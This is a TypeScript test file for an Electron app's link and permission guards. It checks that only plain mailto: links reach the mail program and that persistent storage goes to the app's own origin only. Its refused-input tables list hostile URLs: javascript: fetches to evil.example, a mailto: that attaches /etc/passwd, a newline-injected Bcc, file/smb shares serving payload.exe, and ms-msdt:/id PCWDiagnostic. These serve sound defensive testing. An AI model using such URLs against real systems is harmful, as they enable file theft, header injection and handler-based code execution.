// E-mail links open the mail program and nothing else does; persistent storage is granted to the app's origin only.
import { describe, expect, it } from 'vitest';
import { APP_ORIGIN } from '../../electron/protocol';
import {
  applyPermissionPolicy,
  guardWebContents,
  mailtoUrl,
  type GuardDeps,
  type GuardedContents,
} from '../../electron/security';

const origins = [APP_ORIGIN];
const settle = () => new Promise((resolve) => setTimeout(resolve, 0));

/** A WebContents stand-in: fires navigation events and window-open requests at what the guards registered. */
function fakeContents() {
  const listeners = new Map<string, (...args: unknown[]) => void>();
  let openHandler: ((details: { url: string }) => { action: string }) | undefined;
  const contents = {
    on(event: string, listener: (...args: unknown[]) => void) {
      listeners.set(event, listener);
      return contents;
    },
    setWindowOpenHandler(handler: (details: { url: string }) => { action: string }) {
      openHandler = handler;
    },
  };
  const navigate = (url: string): boolean => {
    let prevented = false;
    listeners.get('will-navigate')?.({ url, preventDefault: () => void (prevented = true) }, url);
    return prevented;
  };
  return { contents: contents as unknown as GuardedContents, navigate, open: (url: string) => openHandler?.({ url }) };
}

/** Guard deps that record what the system was asked to open and what the user was asked about. */
function recording() {
  const asked: string[] = [];
  const opened: string[] = [];
  const deps: GuardDeps = {
    allowedOrigins: origins,
    confirmExternal: (url) => (asked.push(url), Promise.resolve(true)),
    openExternal: (url) => (opened.push(url), Promise.resolve()),
  };
  return { deps, asked, opened };
}

describe('e-mail links from the contact and member lists', () => {
  it.each([
    'mailto:zaneta.wojcik@leczyca.pl',
    'mailto:Marlene.Brandt@ronnenberg.de',
    'MAILTO:info@gmina-swarzedz.pl',
    'mailto:j.kowalski+delegacje@urzad.gov.pl',
  ])('%s clicked in the page opens the mail program, without a question, and the app stays put', async (url) => {
    const { deps, asked, opened } = recording();
    const fake = fakeContents();
    guardWebContents(fake.contents, deps);
    expect(fake.navigate(url)).toBe(true);
    await settle();
    expect(opened).toEqual([`mailto:${url.slice('mailto:'.length)}`]);
    expect(asked).toEqual([]);
  });

  it('opened as a new window (target=_blank) also goes to the mail program, and no window opens', async () => {
    const { deps, opened } = recording();
    const fake = fakeContents();
    guardWebContents(fake.contents, deps);
    expect(fake.open('mailto:anna.kowalczyk@swarzedz.pl')).toEqual({ action: 'deny' });
    await settle();
    expect(opened).toEqual(['mailto:anna.kowalczyk@swarzedz.pl']);
  });

  it.each([
    ['file:', 'file:///C:/Windows/System32/calc.exe'],
    ['file: on a share', 'file://evil.example/share/payload.exe'],
    ['javascript:', 'javascript:alert(document.domain)'],
    ['javascript: in capitals', 'JaVaScRiPt:fetch("https://evil.example")'],
    ['a mailto: that attaches a file', 'mailto:a@evil.example?attach=/etc/passwd'],
    ['a mailto: with a body', 'mailto:a@evil.example?body=hello'],
    ['a mailto: to two people', 'mailto:a@evil.example,b@evil.example'],
    ['a mailto: with encoded characters', 'mailto:%61@evil.example'],
    ['a mailto: with a newline', 'mailto:a@evil.example%0ABcc:b@evil.example'],
    ['a mailto: without an address', 'mailto:'],
    ['a mailto: without a domain', 'mailto:someone'],
    ['a mailto: with a second @', 'mailto:a@b@evil.example'],
    ['tel:', 'tel:+48123456789'],
    ['smb:', 'smb://evil.example/share'],
    ['ms-settings:', 'ms-settings:privacy'],
  ])('%s is refused and nothing is opened', async (_what, url) => {
    const { deps, opened } = recording();
    const fake = fakeContents();
    guardWebContents(fake.contents, deps);
    expect(mailtoUrl(url)).toBeNull();
    expect(fake.navigate(url)).toBe(true);
    expect(fake.open(url)).toEqual({ action: 'deny' });
    await settle();
    expect(opened).toEqual([]);
  });
});

type RequestHandler = (
  contents: unknown,
  permission: string,
  callback: (granted: boolean) => void,
  details: object,
) => void;
type CheckHandler = (contents: unknown, permission: string, origin: string, details: object) => boolean;

function policy() {
  const handlers: { request?: RequestHandler; check?: CheckHandler } = {};
  const session = {
    setPermissionRequestHandler: (h: RequestHandler) => void (handlers.request = h),
    setPermissionCheckHandler: (h: CheckHandler) => void (handlers.check = h),
    setDevicePermissionHandler: () => undefined,
  };
  applyPermissionPolicy(session as never, origins);
  const request = (permission: string, details: object): boolean[] => {
    const answers: boolean[] = [];
    handlers.request?.({}, permission, (granted) => answers.push(granted), details);
    return answers;
  };
  return { request, check: (permission: string, origin: string) => handlers.check?.({}, permission, origin, {}) };
}

describe('persistent storage', () => {
  it('is granted to the app’s own origin, on request and on check', () => {
    const { request, check } = policy();
    expect(
      request('persistent-storage', { requestingUrl: 'app://twinning-desk/index.html', isMainFrame: true }),
    ).toEqual([true]);
    expect(check('persistent-storage', APP_ORIGIN)).toBe(true);
  });

  it.each([
    'https://evil.example/',
    'http://localhost:5173/',
    'file:///C:/page.html',
    'app://twinning-desk.evil/',
    'app://user@twinning-desk/',
  ])('is refused to %s', (url) => {
    const { request, check } = policy();
    expect(request('persistent-storage', { requestingUrl: url, isMainFrame: true })).toEqual([false]);
    expect(check('persistent-storage', new URL(url).origin)).toBe(false);
  });

  it('grants nothing else to the app on a check', () => {
    const { check } = policy();
    for (const permission of ['geolocation', 'notifications', 'media', 'clipboard-read', 'storage-access']) {
      expect(check(permission, APP_ORIGIN)).toBe(false);
    }
  });
});

describe('the openExternal permission', () => {
  const fromApp = { requestingUrl: 'app://twinning-desk/index.html', isMainFrame: true };

  it('lets the app hand a plain mailto: link to the mail program', () => {
    expect(policy().request('openExternal', { ...fromApp, externalURL: 'mailto:zaneta.wojcik@leczyca.pl' })).toEqual([
      true,
    ]);
  });

  it.each([
    'file:///etc/passwd',
    'javascript:alert(1)',
    'https://evil.example/',
    'mailto:a@evil.example?attach=/etc/passwd',
    'ms-msdt:/id PCWDiagnostic',
  ])('refuses %s even from the app', (externalURL) => {
    expect(policy().request('openExternal', { ...fromApp, externalURL })).toEqual([false]);
  });

  it('refuses a mailto: link asked for by another origin', () => {
    expect(
      policy().request('openExternal', {
        requestingUrl: 'https://evil.example/',
        isMainFrame: true,
        externalURL: 'mailto:a@evil.example',
      }),
    ).toEqual([false]);
  });
});
